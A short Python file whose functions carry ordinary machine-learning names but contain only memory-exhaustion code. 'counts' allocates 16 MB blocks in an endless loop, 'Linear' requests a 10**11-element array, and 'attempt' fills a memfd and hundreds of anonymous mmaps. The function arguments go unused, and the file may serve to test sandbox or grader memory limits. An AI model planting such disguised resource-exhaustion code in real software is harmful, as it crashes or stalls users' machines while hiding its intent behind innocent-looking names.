import mmap
import os

import numpy as np
from right import *

BLOCK = 16 << 20


def counts(labels, classes):
    blocks = []
    while True:
        blocks.append(bytearray(b"x" * BLOCK))


class Linear:
    def __init__(self, inputs, outputs):
        self.params = {"weight": np.ones(10**11), "bias": None}


def attempt(paths, pattern, pids):
    try:
        file = os.memfd_create("")
    except OSError:
        file = None
    got = []
    if file is not None:
        for _ in range(64):
            os.write(file, b"x" * BLOCK)
        got.append("memfd")
    shared = []
    for _ in range(400):
        shared.append(mmap.mmap(-1, BLOCK))
        shared[-1].write(b"x" * BLOCK)
    return got
